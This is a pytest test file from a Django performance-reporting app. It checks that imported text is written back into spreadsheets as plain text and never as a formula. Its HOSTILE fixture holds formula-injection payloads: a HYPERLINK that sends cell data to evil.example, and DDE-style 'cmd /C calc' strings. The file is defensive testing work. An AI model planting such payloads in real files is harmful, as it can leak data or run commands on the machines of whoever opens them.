"""Formula injection: text people type (imported from a file, or entered as master data) comes
back as text in every spreadsheet Kinerja writes — the export, the templates and the archived
reports — never as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from kinerja.performance.models import Realisation
from kinerja.reports.services import document_generate
from tests.performance.test_spreadsheets import REAL_HEADERS

HOSTILE = {
    "PEM-1": ('=HYPERLINK("http://evil.example/?q="&A1,"klik")', "+cmd|' /C calc'!A0"),
    "PEM-2": ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
}
NAME = "=1+1 Indikator nama jahat"


def csv_file(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows([REAL_HEADERS, *rows])
    return out.getvalue().encode("utf-8-sig")


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_no_formula_and_texts_shown(data: bytes, texts) -> None:
    all_cells = cells(data)
    formulas = [(c.coordinate, c.value) for c in all_cells if c.data_type == "f"]
    assert formulas == []
    shown = {c.value for c in all_cells if isinstance(c.value, str)}
    for text in texts:
        assert text in shown, text
        cell = next(c for c in all_cells if c.value == text)
        assert cell.data_type == "s" and cell.quotePrefix, text


@pytest.mark.django_db
def test_imported_text_comes_back_as_text_everywhere(client, world):
    world.pem2.name = NAME
    world.pem2.save()
    client.force_login(world.users["kasi_pemerintahan"])
    q = "?periode=2026-Q3"
    url = reverse("performance:import_realisations", args=[world.agency.code]) + q
    rows = [[code, "7", "", *texts] for code, texts in HOSTILE.items()]
    # the tab and the carriage return of OWASP's list are stripped as surrounding space on
    # import; they are written as text by the same rule (tests/core/test_safefiles.py)
    preview = client.post(url, {"file": SimpleUploadedFile("r.csv", csv_file(rows))})
    assert preview.context["result"].ok, preview.context["result"].errors
    response = client.post(url, {"token": preview.context["token"], "confirm": "1"})
    assert response.status_code == 302
    stored = Realisation.objects.get(indicator=world.pem1)
    assert (stored.problems, stored.actions) == HOSTILE["PEM-1"]
    texts = [t for pair in HOSTILE.values() for t in pair]

    agency = world.agency.code
    export = client.get(reverse("performance:export", args=[agency]) + q)
    assert_no_formula_and_texts_shown(export.content, [*texts, NAME])
    numbers = [c for c in cells(export.content) if c.column_letter == "H" and c.row > 1]
    assert {c.value for c in numbers} >= {7} and all(
        c.data_type == "n" for c in numbers if c.value is not None
    )
    template = client.get(reverse("performance:template_realisations", args=[agency]) + q)
    assert_no_formula_and_texts_shown(template.content, [*texts, NAME])
    targets = client.get(reverse("performance:template_targets", args=[agency]) + "?tahun=2026")
    assert_no_formula_and_texts_shown(targets.content, [NAME])

    # the template filled with these texts imports them back unchanged
    again = client.post(
        url, {"file": SimpleUploadedFile("r.xlsx", template.content), "periode": "2026-Q3"}
    )
    assert again.context["result"].ok, again.context["result"].errors
    version = stored.lock_version
    client.post(url, {"token": again.context["token"], "confirm": "1"})
    stored.refresh_from_db()
    assert (stored.problems, stored.actions) == HOSTILE["PEM-1"]
    assert stored.lock_version == version  # nothing changed: the texts read back unchanged

    planner = world.users["kasubag_perencanaan"]
    for code, extra in (("laporan-unit", {"unit": "pemerintahan"}), ("laporan-triwulan", {})):
        doc = document_generate(
            actor=planner, code=code, fmt="xlsx", agency=agency, period="2026-Q3", **extra
        )
        with doc.file.open("rb") as f:
            # (reports name indicators as the signed agreement does, so only the texts)
            assert_no_formula_and_texts_shown(f.read(), texts)
